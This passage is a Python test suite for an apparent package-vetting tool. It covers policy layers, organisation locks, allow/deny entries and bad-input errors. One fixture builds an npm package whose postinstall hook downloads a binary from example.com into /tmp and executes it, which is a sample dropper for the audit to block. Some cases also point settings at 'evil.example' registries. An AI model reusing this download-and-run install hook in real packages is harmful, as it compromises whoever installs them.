"""Policy layers, locks, allow/deny entries and bad input, through the real
binary: `pkgvet policy show|check` and `pkgvet audit` verdicts.

Each case runs with HOME, XDG_* and the current directory in temp dirs. The
organisation layer must really be the compiled-in org file
(/etc/pkgvet/policy.ini): those cases run in a private mount namespace
(`unshare --mount` as root, `unshare -rm` otherwise) with a temp dir
bind-mounted over its directory, so the machine's real org policy is neither
read nor touched. When that is impossible the org cases are skipped: the
script says why and exits 77 (after the other cases passed)."""
import datetime, fcntl, json, os, shutil, subprocess, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from pvtest import *

SETTING_ENVS = ['PKGVET_NONINTERACTIVE', 'PKGVET_FAIL_CLOSED', 'PKGVET_NPM_REGISTRY', 'PKGVET_PYPI_INDEX',
                'PKGVET_OSV_URL', 'PKGVET_TIMEOUT', 'PKGVET_CACHE_DIR', 'PKGVET_LOG']
for k in SETTING_ENVS:
    os.environ.pop(k, None)

SKIP = 77
_tmpdirs = []


def mktemp():
    d = tmpdir()
    _tmpdirs.append(d)
    return d


def cleanup():
    for d in _tmpdirs:
        shutil.rmtree(d, ignore_errors=True)


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w') as f:
        f.write(text)
    return path


def line_of(text, needle, nth=1):
    """1-based line number of the nth line containing needle."""
    for i, l in enumerate(text.split('\n'), 1):
        if needle in l:
            nth -= 1
            if nth == 0:
                return i
    raise AssertionError(f'{needle!r} not in policy text')


def day(delta):
    return (datetime.date.today() + datetime.timedelta(days=delta)).isoformat()


class Sandbox:
    """A home, an XDG config dir and a project (a git work tree) in temp dirs."""

    def __init__(self):
        self.root = mktemp()
        self.home = os.path.join(self.root, 'home')
        self.config = os.path.join(self.root, 'config')
        self.proj = os.path.join(self.root, 'proj')
        os.makedirs(self.home)
        os.makedirs(os.path.join(self.proj, '.git'))
        self.user_file = os.path.join(self.config, 'pkgvet', 'policy.ini')
        self.project_file = os.path.join(self.proj, '.pkgvet.ini')

    def user(self, text):
        return write(self.user_file, text)

    def project(self, text):
        return write(self.project_file, text)

    def env(self, extra=None):
        e = {'HOME': self.home, 'XDG_CONFIG_HOME': self.config,
             'XDG_CACHE_HOME': os.path.join(self.root, 'cache'),
             'XDG_STATE_HOME': os.path.join(self.root, 'state')}
        e.update(extra or {})
        return e

    def run(self, *args, env=None, cwd=None):
        return run(*args, cwd=cwd or self.proj, env=self.env(env))

    def show(self, env=None, cwd=None):
        p = self.run('policy', 'show', '--json', env=env, cwd=cwd)
        try:
            doc = json.loads(p.stdout)
        except ValueError:
            doc = None
        vals = {v['key']: v for v in doc['values']} if doc else {}
        return p, doc, vals

    def audit(self, *paths, env=None):
        p = self.run('audit', '--json', *paths, env=env)
        try:
            doc = json.loads(p.stdout)
        except ValueError:
            doc = None
        return p, doc


def origin(v):
    o = v.get('origin') if v else None
    return (o['file'], o['line']) if o else None


def locked_at(v):
    o = v.get('locked_at') if v else None
    return (o['file'], o['line']) if o else None


def err(p):
    return p.stderr.decode(errors='replace')


def short(s, n=300):
    """For check messages: one line, bounded."""
    s = s.strip().replace('\n', ' | ')
    return s if len(s) <= n else s[:n] + '...'


# ------------------------------------------------------------------ artifacts

ART = mktemp()
DROPPER = make_tgz(os.path.join(ART, 'left-padder-helper-1.2.3.tgz'), {
    'package/package.json': json.dumps({"name": "left-padder-helper", "version": "1.2.3",
                                        "scripts": {"postinstall": "node setup.js"}}),
    'package/setup.js': 'const https = require("https");\nconst fs = require("fs");\n'
                        'const { execSync } = require("child_process");\n'
                        'https.get("https://example.com/p.bin", (res) => {\n'
                        '  const out = fs.createWriteStream("/tmp/.x");\n  res.pipe(out);\n'
                        '  out.on("finish", () => { fs.chmodSync("/tmp/.x", 0o755); execSync("/tmp/.x"); });\n'
                        '});\n',
})
HOOKY = make_tgz(os.path.join(ART, 'zz-hooky-lib-1.0.0.tgz'), {
    'package/package.json': json.dumps({"name": "zz-hooky-lib", "version": "1.0.0",
                                        "scripts": {"postinstall": "node setup.js"}}),
    'package/setup.js': 'console.log("thanks for installing");\n',
    'package/index.js': 'module.exports = 1;\n',
    'package/README.md': '# hooky\n\n' + 'A small library used by the pkgvet tests. ' * 8 + '\n',
})
CLEAN = make_tgz(os.path.join(ART, 'zz-tiny-sum-lib-1.0.0.tgz'), {
    'package/package.json': json.dumps({"name": "zz-tiny-sum-lib", "version": "1.0.0", "main": "index.js"}),
    'package/index.js': 'module.exports = function sum(a, b) { return a + b; };\n',
    'package/README.md': '# tiny-sum\n',
})
WHEEL = make_wheel(os.path.join(ART, 'Demo_Tool-0.4.1-py3-none-any.whl'), 'Demo_Tool', '0.4.1',
                   {'demo_tool/__init__.py': 'def f():\n    return 1\n'})


def verdict(doc, i=0):
    return doc['packages'][i]['verdict'] if doc else None


def notes(doc, attr, i=0):
    return [f for f in doc['packages'][i]['findings'] if f['attribute'] == attr] if doc else []


# ------------------------------------------------------------------ layers without the org file

def layer_cases():
    s = Sandbox()
    p, doc, v = s.show()
    check(p.returncode == 0 and doc and doc['schema'] == 'pkgvet.policy/1',
          f'show --json with no policy files (rc {p.returncode}, {short(err(p))})')
    check(v['attributes.typosquat.action']['value'] == 'prompt'
          and 'built-in' in v['attributes.typosquat.action']['origin']['file'],
          'defaults come from the built-in catalogue')
    check(v['settings.fail_closed']['value'] is True and v['settings.noninteractive']['value'] == 'block'
          and origin(v['settings.timeout']) == ('default', None), 'built-in settings: fail closed, block, default')
    check(v['settings.cache_dir']['value'] == os.path.join(s.root, 'cache', 'pkgvet')
          and v['settings.log']['value'] == os.path.join(s.root, 'state', 'pkgvet', 'decisions.jsonl'),
          'cache dir and log default under XDG_CACHE_HOME / XDG_STATE_HOME')

    # user overrides default
    utext = '[attributes]\ntyposquat = block\nrelease-fresh.threshold = 72\nno-readme.enabled = no\n' \
            '[settings]\ntimeout = 12\n'
    s.user(utext)
    p, doc, v = s.show()
    check(p.returncode == 0 and v['attributes.typosquat.action']['value'] == 'block'
          and origin(v['attributes.typosquat.action']) == (s.user_file, 2),
          f'user file overrides the default, origin user:2 ({v.get("attributes.typosquat.action")})')
    check(v['attributes.release-fresh.threshold']['value'] == 72
          and origin(v['attributes.release-fresh.threshold']) == (s.user_file, 3), 'user threshold 72 at :3')
    check(v['attributes.no-readme.enabled']['value'] is False, 'user disables no-readme')

    # project overrides user, found from a subdirectory
    ptext = '# the team\'s decisions\n[attributes]\ntyposquat = warn\n'
    s.project(ptext)
    sub = os.path.join(s.proj, 'src', 'deep')
    os.makedirs(sub)
    p, doc, v = s.show(cwd=sub)
    check(v['attributes.typosquat.action']['value'] == 'warn'
          and origin(v['attributes.typosquat.action']) == (s.project_file, 3),
          f'project .pkgvet.ini overrides user, found from a subdirectory ({v.get("attributes.typosquat.action")})')
    check(origin(v['attributes.release-fresh.threshold']) == (s.user_file, 3), 'user value kept where project is silent')
    layers = {l['layer']: l for l in doc['layers']}
    check(layers['project']['file'] == s.project_file and layers['project']['present']
          and layers['user']['file'] == s.user_file, 'layers list names the files read')

    # text output: `section.key = value    # file:line`
    p = s.run('policy', 'show', cwd=sub)
    out = p.stdout.decode()
    check(p.returncode == 0 and f'attributes.typosquat.action = warn    # {s.project_file}:3\n' in out
          and f'settings.timeout = 12    # {s.user_file}:6\n' in out,
          'text show: key = value    # file:line')

    # a project file owned by someone else (a planted /tmp/.pkgvet.ini) is ignored
    try:
        os.chown(s.project_file, 12345, 12345)
    except OSError:
        print('note: cannot chown here; the foreign-owner case is not checked')
    else:
        p, doc, v = s.show(cwd=sub)
        check(v['attributes.typosquat.action']['value'] == 'block'
              and f'{s.project_file}: ignored: owned by uid 12345' in err(p),
              f'a project file owned by another user is ignored with a warning ({short(err(p))})')
        os.chown(s.project_file, os.geteuid(), os.getegid())

    # the search stops at the git root: a .pkgvet.ini above it is not this project's
    outer = Sandbox()
    write(os.path.join(outer.root, '.pkgvet.ini'), '[attributes]\ntyposquat = allow\n')
    p, doc, v = outer.show()
    check(v['attributes.typosquat.action']['value'] == 'prompt',
          'no .pkgvet.ini above the directory holding .git')
    # ... but without a .git the nearest ancestor's file is used
    nogit = os.path.join(outer.root, 'plain', 'dir')
    os.makedirs(nogit)
    p, doc, v = outer.show(cwd=nogit)
    check(v['attributes.typosquat.action']['value'] == 'allow'
          and origin(v['attributes.typosquat.action']) == (os.path.join(outer.root, '.pkgvet.ini'), 2),
          'nearest ancestor .pkgvet.ini when there is no .git in between')

    # environment variables: the last layer
    p, doc, v = s.show(env={'PKGVET_TIMEOUT': '5', 'PKGVET_NONINTERACTIVE': 'warn',
                            'PKGVET_NPM_REGISTRY': 'https://npm.example.com/'})
    check(v['settings.timeout']['value'] == 5 and origin(v['settings.timeout']) == ('env PKGVET_TIMEOUT', None)
          and v['settings.noninteractive']['value'] == 'warn'
          and v['settings.npm_registry']['value'] == 'https://npm.example.com/',
          'PKGVET_* override the files, origin "env PKGVET_X"')
    p = s.run('policy', 'show', env={'PKGVET_TIMEOUT': '5'})
    check('settings.timeout = 5    # env PKGVET_TIMEOUT\n' in p.stdout.decode(), 'text show names the env var')
    for var, val in [('PKGVET_TIMEOUT', '0'), ('PKGVET_FAIL_CLOSED', 'maybe'), ('PKGVET_NONINTERACTIVE', 'prompt'),
                     ('PKGVET_OSV_URL', 'ftp://x'), ('PKGVET_LOG', 'relative.jsonl')]:
        p = s.run('policy', 'show', env={var: val})
        check(p.returncode == 2 and f'{var}: invalid value' in err(p), f'invalid {var}={val}: exit 2 naming it')

    # allow / deny entries through audit verdicts
    a = Sandbox()
    p, doc = a.audit(DROPPER, CLEAN, HOOKY, WHEEL)
    check(p.returncode == 1 and [verdict(doc, i) for i in range(4)] == ['block', 'allow', 'prompt', 'allow'],
          f'audit without policy: block, allow, prompt, allow ({[verdict(doc, i) for i in range(4)] if doc else err(p)})')
    ptext = ('[allow npm:left-padder-helper@1.2.3]\nreason = reviewed, SEC-1\n\n'
             '[deny npm:zz-tiny-sum-lib]\nreason = replaced by an internal package\n\n'
             '[allow npm:zz-hooky-lib@^2.0.0]\nreason = only the 2.x line was reviewed\n\n'
             '[deny pypi:demo.TOOL <1]\nreason = CVE-0000-0001\n')
    a.project(ptext)
    p, doc = a.audit(DROPPER, CLEAN, HOOKY, WHEEL)
    check([verdict(doc, i) for i in range(4)] == ['allow', 'block', 'prompt', 'block'],
          f'allow lifts a block, deny blocks, an allow for other versions does not apply, PEP 503 names '
          f'({[verdict(doc, i) for i in range(4)] if doc else err(p)})')
    n = notes(doc, 'policy-deny', 1)
    check(n and n[0]['action'] == 'block' and 'replaced by an internal package' in (n[0]['detail'] or '')
          and f'{a.project_file}:{line_of(ptext, "deny npm:zz-tiny")}' in n[0]['detail'],
          f'deny note names the entry, file:line and reason ({n})')
    n = notes(doc, 'policy-allow', 0)
    check(n and 'reviewed, SEC-1' in (n[0]['detail'] or ''), 'allow note with the reason')
    check(p.returncode == 1, 'audit exits 1 when a package is denied')

    # a later layer wins over an earlier one (nothing locked)
    a.user('[deny npm:left-padder-helper]\nreason = user does not want it\n')
    p, doc = a.audit(DROPPER)
    check(verdict(doc) == 'allow', 'project allow beats user deny (later layer wins, deny not locked)')
    # deny beats allow inside one layer
    a.project('[allow npm:zz-hooky-lib]\nreason = ok\n\n[deny npm:zz-hooky-lib@<1.0.1]\nreason = bad build\n')
    p, doc = a.audit(HOOKY)
    check(verdict(doc) == 'block', 'within one file a matching deny beats a matching allow')

    # expired entries are ignored with a warning
    e = Sandbox()
    etext = f'[allow npm:left-padder-helper]\nreason = temporary\nexpires = {day(-1)}\n\n' \
            f'[deny npm:zz-tiny-sum-lib]\nreason = until the fix\nexpires = {day(0)}\n'
    e.project(etext)
    p, doc = e.audit(DROPPER, CLEAN)
    check([verdict(doc, i) for i in range(2)] == ['block', 'block'],
          'an entry expired yesterday is ignored; one expiring today still applies')
    check(f'{e.project_file}:1: [allow npm:left-padder-helper] expired on {day(-1)}: ignored' in err(p),
          f'expired entry: warning with file:line ({short(err(p))})')
    p, doc, v = e.show()
    check([x['entry'] for x in doc['entries']] == ['npm:zz-tiny-sum-lib']
          and any('expired' in w for w in doc['warnings']), 'show lists only live entries, warns about the expired one')

    # an invalid user or project file stops everything (never a silent fallback)
    b = Sandbox()
    b.user('[attributes]\ntyposquat = sometimes\n')
    p = b.run('policy', 'show')
    check(p.returncode == 2 and f'{b.user_file}:2: invalid action' in err(p), f'invalid user file: exit 2, file:line ({short(err(p))})')
    p = b.run('audit', CLEAN)
    check(p.returncode == 2 and f'{b.user_file}:2:' in err(p), 'audit refuses to run with an invalid user policy')
    b.user('')
    b.project('[locked]\nattributes.* = yes\n')
    p = b.run('policy', 'show')
    check(p.returncode == 2 and f'{b.project_file}:1: [locked] is allowed only in the organisation policy' in err(p),
          f'[locked] in a project file is an error ({short(err(p))})')
    b.project('')
    b.user('[locked]\nallow = yes\n')
    p = b.run('policy', 'show')
    check(p.returncode == 2 and f'{b.user_file}:1: [locked]' in err(p), '[locked] in the user file is an error')
    os.remove(b.user_file)
    os.makedirs(b.user_file)
    p = b.run('policy', 'show')
    check(p.returncode == 2 and f'{b.user_file}: cannot read' in err(p), 'a user policy that is a directory: error')


# ------------------------------------------------------------------ policy check: bad input

BAD = [
    # (text, line, substring of the message)
    ('[attributes]\ntyposquat = block\n[colours]\nred = yes\n', 3, 'unknown section [colours]'),
    ('[settings]\ntimeout = 5\ncolour = red\n', 3, "unknown key 'colour' in [settings]"),
    ('[attributes]\ntypo-squat = block\n', 2, "unknown attribute 'typo-squat'"),
    ('[attributes]\ntyposquat.colour = red\n', 2, "unknown key 'typosquat.colour'"),
    ('[attributes]\n\ntyposquat = sometimes\n', 3, "invalid action 'sometimes'"),
    ('[attributes]\nperm-network.install_time_action = loud\n', 2, "invalid action 'loud'"),
    ('[attributes]\nrelease-fresh.threshold = soon\n', 2, "invalid threshold 'soon'"),
    ('[attributes]\nrelease-fresh.threshold = -4\n', 2, "invalid threshold '-4'"),
    ('[attributes]\nrelease-fresh.threshold = 1e3\n', 2, "invalid threshold '1e3'"),
    ('[attributes]\ntyposquat.threshold = 3\n', 2, 'typosquat has no threshold'),
    ('[attributes]\nno-readme.enabled = perhaps\n', 2, 'must be yes or no'),
    ('[settings]\nnoninteractive = prompt\n', 2, 'noninteractive cannot be prompt'),
    ('[settings]\nfail_closed = sometimes\n', 2, 'fail_closed must be yes or no'),
    ('[settings]\nnpm_registry = registry.npmjs.org\n', 2, 'npm_registry must be an http:// or https:// URL'),
    ('[settings]\ntimeout = 0\n', 2, 'timeout must be a whole number'),
    ('[settings]\ncache_dir = cache\n', 2, 'cache_dir must be an absolute path'),
    ('[allow npm:left-pad@>>1.0]\nreason = r\n', 1, 'invalid npm version range'),
    ('[allow npm:left-pad@]\nreason = r\n', 1, 'empty version range'),
    ('[allow npm:Left Pad]\nreason = r\n', 1, 'invalid npm package name'),
    ('[deny pypi:requests <<2]\nreason = r\n', 1, 'invalid PEP 440 specifier'),
    ('[deny pypi:requests<2.20]\nreason = r\n', 1, 'invalid PyPI project name'),
    ('[deny cargo:serde]\nreason = r\n', 1, 'must name npm:NAME[@RANGE] or pypi:NAME[ SPEC]'),
    ('[allow]\nreason = r\n', 1, '[allow] needs an entry'),
    ('[allow npm:left-pad]\nreason = r\nexpires = 2027-02-30\n', 3, "invalid date '2027-02-30'"),
    ('[allow npm:left-pad]\nreason = r\nexpires = 30/06/2027\n', 3, "invalid date '30/06/2027'"),
    ('[allow npm:left-pad]\nreason = r\nexpires = 2027-6-30\n', 3, "invalid date '2027-6-30'"),
    ('[allow npm:left-pad]\nreason = r\nowner = me\n', 3, "unknown key 'owner'"),
    ('[allow npm:left-pad]\nexpires = 2027-01-01\n', 1, 'needs a reason'),
    ('[attributes]\ntyposquat = block\nrelease-old = warn\ntyposquat = warn\n', 4,
     "attributes.typosquat.action is set twice with different values: 'block' at line 2"),
    ('[attributes]\ntyposquat = block\n[settings]\ntimeout = 5\n[attributes]\ntyposquat.action = warn\n', 6,
     'set twice with different values'),
    ('[settings]\ntimeout = 5\ntimeout = 6\n', 3, 'settings.timeout is set twice'),
    ('[allow npm:left-pad@^1.3.0]\nreason = a\n\n[allow npm:left-pad@^1.3.0]\nreason = b\n', 4,
     'is already at line 1'),
    ('[deny pypi:requests <2]\nreason = a\n[allow pypi:requests <2]\nreason = b\n', 3, 'contradicts [deny'),
    ('[allow npm:left-pad]\nreason = a\nreason = b\n', 3, 'reason of [allow npm:left-pad] is set twice'),
    ('[locked]\nattributes.typosquat = yes\n', 1, '[locked] is allowed only in the organisation policy'),
    ('[attributes]\ntyposquat = block\n' + '# ' + 'x' * 240 + '\n', 3, 'line longer than 198 characters'),
    ('[attributes]\ntyposquat = block\njust some words\n', 3, 'expected [section] or key = value'),
    ('typosquat = block\n', 1, 'outside any section'),
    ('[settings\ntimeout = 5\n', 1, "without ']'"),
    ('[attributes]\ntyposquat = block\n  no-readme.enabled = no\n', 3, 'indented line continues typosquat'),
    ('[settings]\ntimeout = 5\x1b[2J\n', 2, 'control character 0x1b'),
]

BAD_ORG = [
    ('[locked]\nattributes.typo = yes\n', 2, "unknown attribute 'typo'"),
    ('[locked]\nsettings.colour = yes\n', 2, "unknown setting 'settings.colour'"),
    ('[locked]\neverything = yes\n', 2, "unknown key 'everything' in [locked]"),
    ('[locked]\nallow = always\n', 2, 'must be yes or no'),
    ('[locked]\nallow = yes\nallow = no\n', 3, 'locked.allow is set twice'),
    ('[locked]\nattributes.typosquat.threshold = yes\n', 2, 'typosquat has no threshold'),
]

GOOD = '''# a complete policy file
[attributes]
typosquat = block            ; action: allow|warn|prompt|block
release-fresh.threshold = 72
release-fresh.threshold = 72
no-readme.enabled = no
perm-network.install_time_action = block
known-vuln.high_action = block

[settings]
noninteractive = block
fail_closed = yes
npm_registry = https://registry.npmjs.org
pypi_index = https://pypi.org/simple
osv_url = https://api.osv.dev/v1/querybatch
timeout = 30
cache_dir = /var/cache/pkgvet
log = /var/log/pkgvet/decisions.jsonl

[allow npm:left-pad@^1.3.0]
reason = reviewed by security,
    ticket SEC-12
expires = 2028-02-29

[allow npm:@types/node]
reason = type definitions only

[deny pypi:requests <2.20]
reason = CVE-2018-18074

[deny pypi:Django_Rest.Framework]
reason = use the internal fork
'''

GOOD_ORG = GOOD + '''
[locked]
attributes.typosquat = yes
attributes.release-fresh.threshold = yes
attributes.* = yes
settings.fail_closed = yes
settings.* = no
deny = yes
allow = yes
'''


def check_cases():
    d = mktemp()
    for i, (text, line, what) in enumerate(BAD):
        f = write(os.path.join(d, f'bad{i}.ini'), text)
        p = run('policy', 'check', f)
        e = err(p).strip()
        check(p.returncode == 2 and e.startswith(f'{f}:{line}: ') and what in e and '\n' not in e,
              f'check bad{i}: exit 2, "{os.path.basename(f)}:{line}: ...{what}" (got {p.returncode} {e!r})')
    for i, (text, line, what) in enumerate(BAD_ORG):
        f = write(os.path.join(d, f'badorg{i}.ini'), text)
        p = run('policy', 'check', '--org', f)
        e = err(p).strip()
        check(p.returncode == 2 and e.startswith(f'{f}:{line}: ') and what in e,
              f'check --org badorg{i}: "{line}: {what}" (got {p.returncode} {e!r})')
    f = write(os.path.join(d, 'good.ini'), GOOD)
    p = run('policy', 'check', f)
    check(p.returncode == 0 and p.stdout.decode() == f'{f}: ok\n', f'good file: "FILE: ok", exit 0 ({short(err(p))})')
    f = write(os.path.join(d, 'good-org.ini'), GOOD_ORG)
    p = run('policy', 'check', f, '--org')
    check(p.returncode == 0 and p.stdout.decode() == f'{f}: ok\n', f'good org file with --org: ok ({short(err(p))})')
    p = run('policy', 'check', f)
    check(p.returncode == 2 and f'{f}:{line_of(GOOD_ORG, "[locked]")}: [locked]' in err(p),
          'the same file without --org: [locked] refused')
    missing = os.path.join(d, 'missing.ini')
    p = run('policy', 'check', missing)
    check(p.returncode == 2 and err(p).startswith(f'{missing}: cannot read'), 'check of a missing file: exit 2')
    p = run('policy', 'check')
    check(p.returncode == 2, 'check without FILE: usage error')
    p = run('policy', 'frobnicate')
    check(p.returncode == 2, 'unknown policy subcommand: usage error')
    p = run('policy', 'show', 'extra')
    check(p.returncode == 2, 'show with an argument: usage error')


# ------------------------------------------------------------------ the organisation layer

def org_cases(org):
    """Runs inside the mount namespace: org is the real compiled-in path."""
    def org_write(text):
        if os.path.isdir(org) and not os.path.islink(org):
            os.rmdir(org)
        elif os.path.lexists(org):
            os.remove(org)
        if text is not None:
            write(org, text)

    # -- locked action: lowering ignored with a warning naming both lines; raising works
    otext = '[attributes]\ntyposquat = block\ninstall-hook = prompt\n\n[locked]\nattributes.typosquat = yes\n' \
            'attributes.install-hook.action = yes\n'
    org_write(otext)
    s = Sandbox()
    utext = '[attributes]\ntyposquat = warn\ninstall-hook = allow\n'
    s.user(utext)
    p, doc, v = s.show()
    tq = v.get('attributes.typosquat.action')
    check(p.returncode == 0 and tq['value'] == 'block' and origin(tq) == (org, 2) and locked_at(tq) == (org, 6),
          f'locked action: user lowering ignored, value and origin from org, locked at org:6 ({tq})')
    w = '\n'.join(doc['warnings'])
    check(f'{s.user_file}:2: attributes.typosquat.action = warn ignored' in w and f'(locked at {org}:6)' in w,
          f'warning names the user file:line and the lock file:line ({short(w)})')
    check(f'{s.user_file}:2:' in err(p) and 'ignored' in err(p), 'warnings also on stderr')
    p = s.run('policy', 'show')
    check(f'attributes.typosquat.action = block    # {org}:2 (locked at {org}:6)\n' in p.stdout.decode(),
          'text show: (locked at file:line)')
    # through audit: user says allow for install-hook, org locked prompt
    p, doc = s.audit(HOOKY)
    check(verdict(doc) == 'prompt', f'audit: locked install-hook stays prompt ({verdict(doc)}, {short(err(p))})')
    s.user('[attributes]\ntyposquat = block\ninstall-hook = block\n')
    p, doc = s.audit(HOOKY)
    check(verdict(doc) == 'block', 'strengthening a locked action works (install-hook = block)')
    s.project('[attributes]\ninstall-hook = warn\n')
    p, doc, v = s.show()
    ih = v['attributes.install-hook.action']
    check(ih['value'] == 'block' and origin(ih) == (s.user_file, 3),
          f'project lowering below the org floor ignored; the user\'s stronger value stays ({ih})')
    s.project('[attributes]\ninstall-hook = prompt\n')
    p, doc, v = s.show()
    ih = v['attributes.install-hook.action']
    check(ih['value'] == 'prompt' and origin(ih) == (s.project_file, 2) and not doc['warnings'],
          'a later layer may go back to the org\'s locked value (not below it)')

    # -- unlocked key: later wins
    org_write('[attributes]\ntyposquat = block\n')
    s = Sandbox()
    s.user('[attributes]\ntyposquat = warn\n')
    p, doc, v = s.show()
    check(v['attributes.typosquat.action']['value'] == 'warn' and locked_at(v['attributes.typosquat.action']) is None,
          'org value without a lock: the user layer wins')

    # -- disabling, thresholds in both directions, install_time_action
    otext = ('[attributes]\nrelease-fresh.threshold = 48\nrelease-old.threshold = 365\n'
             'perm-network.install_time_action = prompt\n\n[locked]\nattributes.* = yes\n')
    org_write(otext)
    s = Sandbox()
    s.user('[attributes]\nno-readme.enabled = no\nrelease-fresh.threshold = 24\nrelease-old.threshold = 400\n'
           'perm-network.install_time_action = warn\nfew-downloads.threshold = 10\ntoo-many-deps.threshold = 80\n')
    p, doc, v = s.show()
    w = '\n'.join(doc['warnings'])
    lock = (org, line_of(otext, 'attributes.*'))
    for key, val, ln in [('attributes.no-readme.enabled', True, 2), ('attributes.release-fresh.threshold', 48, 3),
                         ('attributes.release-old.threshold', 365, 4),
                         ('attributes.perm-network.install_time_action', 'prompt', 5),
                         ('attributes.few-downloads.threshold', 1000, 6),
                         ('attributes.too-many-deps.threshold', 50, 7)]:
        check(v[key]['value'] == val and locked_at(v[key]) == lock and f'{s.user_file}:{ln}: {key} = ' in w,
              f'weakening {key} ignored with a warning ({v[key]["value"]})')
    s.user('[attributes]\nrelease-fresh.threshold = 96\nrelease-old.threshold = 200\n'
           'perm-network.install_time_action = block\nfew-downloads.threshold = 5000\ntoo-many-deps.threshold = 20\n'
           'no-readme.enabled = yes\n')
    p, doc, v = s.show()
    check(v['attributes.release-fresh.threshold']['value'] == 96
          and v['attributes.release-old.threshold']['value'] == 200
          and v['attributes.perm-network.install_time_action']['value'] == 'block'
          and v['attributes.few-downloads.threshold']['value'] == 5000
          and v['attributes.too-many-deps.threshold']['value'] == 20
          and not doc['warnings'], f'strengthening locked thresholds and actions works ({doc["warnings"]})')
    p, doc = s.audit(CLEAN)
    check(p.returncode == 0 and verdict(doc) == 'allow' and not err(p), 'audit runs under a locked org policy')

    # -- settings: noninteractive, fail_closed, endpoints; env vars cannot unlock
    otext = ('[settings]\nnoninteractive = warn\nfail_closed = yes\nlog = /var/log/pkgvet.jsonl\n\n'
             '[locked]\nsettings.* = yes\n')
    org_write(otext)
    lock = (org, line_of(otext, 'settings.*'))
    s = Sandbox()
    utext = ('[settings]\nnoninteractive = allow\nfail_closed = no\nnpm_registry = https://npm.evil.example\n'
             'pypi_index = https://pypi.evil.example/simple\nosv_url = https://osv.evil.example\n'
             'log = /tmp/elsewhere.jsonl\n')
    s.user(utext)
    p, doc, v = s.show()
    w = '\n'.join(doc['warnings'])
    for key, val in [('noninteractive', 'warn'), ('fail_closed', True), ('npm_registry', 'https://registry.npmjs.org'),
                     ('pypi_index', 'https://pypi.org/simple'), ('osv_url', 'https://api.osv.dev/v1/querybatch'),
                     ('log', '/var/log/pkgvet.jsonl')]:
        k = 'settings.' + key
        check(v[k]['value'] == val and locked_at(v[k]) == lock
              and f'{s.user_file}:{line_of(utext, key)}: {k} = ' in w,
              f'user weakening {k} ignored with a warning ({v[k]["value"]})')
    s.user('[settings]\nnoninteractive = block\n')
    p, doc, v = s.show()
    check(v['settings.noninteractive']['value'] == 'block' and origin(v['settings.noninteractive']) == (s.user_file, 2),
          'noninteractive made stronger (warn -> block) by the user: accepted')
    s.user('')
    env = {'PKGVET_NONINTERACTIVE': 'allow', 'PKGVET_FAIL_CLOSED': 'no',
           'PKGVET_NPM_REGISTRY': 'http://127.0.0.1:9/', 'PKGVET_PYPI_INDEX': 'http://127.0.0.1:9/simple',
           'PKGVET_OSV_URL': 'http://127.0.0.1:9/osv', 'PKGVET_LOG': '/dev/null',
           'PKGVET_ORG_POLICY': '/dev/null'}
    p, doc, v = s.show(env=env)
    w = '\n'.join(doc['warnings'])
    check(p.returncode == 0 and v['settings.noninteractive']['value'] == 'warn'
          and v['settings.fail_closed']['value'] is True
          and v['settings.npm_registry']['value'] == 'https://registry.npmjs.org'
          and v['settings.log']['value'] == '/var/log/pkgvet.jsonl'
          and origin(v['settings.fail_closed']) == (org, 3),
          'environment variables cannot weaken locked settings (and PKGVET_ORG_POLICY moves nothing)')
    for var in ['PKGVET_NONINTERACTIVE', 'PKGVET_FAIL_CLOSED', 'PKGVET_NPM_REGISTRY', 'PKGVET_PYPI_INDEX',
                'PKGVET_OSV_URL', 'PKGVET_LOG']:
        check(f'env {var}=' in w and f'(locked at {org}:{lock[1]})' in w, f'warning names {var} and the lock')
    p, doc, v = s.show(env={'PKGVET_NONINTERACTIVE': 'block'})
    check(v['settings.noninteractive']['value'] == 'block'
          and origin(v['settings.noninteractive']) == ('env PKGVET_NONINTERACTIVE', None),
          'an env var that strengthens a locked setting is applied')

    # only fail_closed locked: other settings stay free
    org_write('[locked]\nsettings.fail_closed = yes\n')
    s = Sandbox()
    s.user('[settings]\nfail_closed = no\ntimeout = 9\n')
    p, doc, v = s.show(env={'PKGVET_FAIL_CLOSED': 'no'})
    check(v['settings.fail_closed']['value'] is True and v['settings.timeout']['value'] == 9
          and origin(v['settings.fail_closed']) == ('default', None)
          and locked_at(v['settings.fail_closed']) == (org, 2),
          'fail_closed locked at its default: user and env cannot turn it off; unlocked timeout still changes')

    # -- allow locked: no later allow entries at all
    otext = '[allow npm:zz-hooky-lib]\nreason = the org reviewed it\n\n[locked]\nallow = yes\n'
    org_write(otext)
    s = Sandbox()
    s.user('[allow npm:left-padder-helper]\nreason = I like it\n')
    s.project('[allow npm:left-padder-helper@1.2.3]\nreason = we like it\n\n[deny npm:zz-tiny-sum-lib]\nreason = no\n')
    p, doc = s.audit(DROPPER, HOOKY, CLEAN)
    check([verdict(doc, i) for i in range(3)] == ['block', 'allow', 'block'],
          f'allow locked: user/project allows ignored, org allow and later denies apply '
          f'({[verdict(doc, i) for i in range(3)] if doc else err(p)})')
    check(f'{s.user_file}:1: [allow npm:left-padder-helper] ignored: allow entries are locked (at {org}:5)' in err(p)
          and f'{s.project_file}:1: [allow npm:left-padder-helper@1.2.3] ignored' in err(p),
          f'warnings name the ignored entries and the lock ({short(err(p))})')
    p, doc, v = s.show()
    check([(x['type'], x['layer']) for x in doc['entries']] == [('allow', 'org'), ('deny', 'project')]
          and doc['locks']['allow'] == {'file': org, 'line': 5}, 'show: effective entries and the allow lock')

    # -- deny locked: a later layer cannot allow what the org denies
    otext = '[deny pypi:demo-tool <1]\nreason = CVE-0000-0001\n\n[deny npm:left-padder-helper]\nreason = dropper\n\n' \
            '[locked]\ndeny = yes\n'
    org_write(otext)
    s = Sandbox()
    s.user('[allow pypi:Demo.Tool]\nreason = we need it\n\n[allow npm:zz-hooky-lib]\nreason = fine\n')
    s.project('[allow npm:left-padder-helper@1.2.3]\nreason = pinned\n')
    p, doc = s.audit(WHEEL, DROPPER, HOOKY)
    check([verdict(doc, i) for i in range(3)] == ['block', 'block', 'allow'],
          f'deny locked: allows overlapping an org deny ignored (PEP 503 names); other allows apply '
          f'({[verdict(doc, i) for i in range(3)] if doc else err(p)})')
    check(f'{s.user_file}:1: [allow pypi:Demo.Tool] ignored: the organisation denies [pypi:demo-tool <1] ({org}:1)'
          in err(p) and f'locked (at {org}:{line_of(otext, "deny = yes")})' in err(p),
          f'warning names the org deny and the lock ({short(err(p))})')
    n = notes(doc, 'policy-deny', 0)
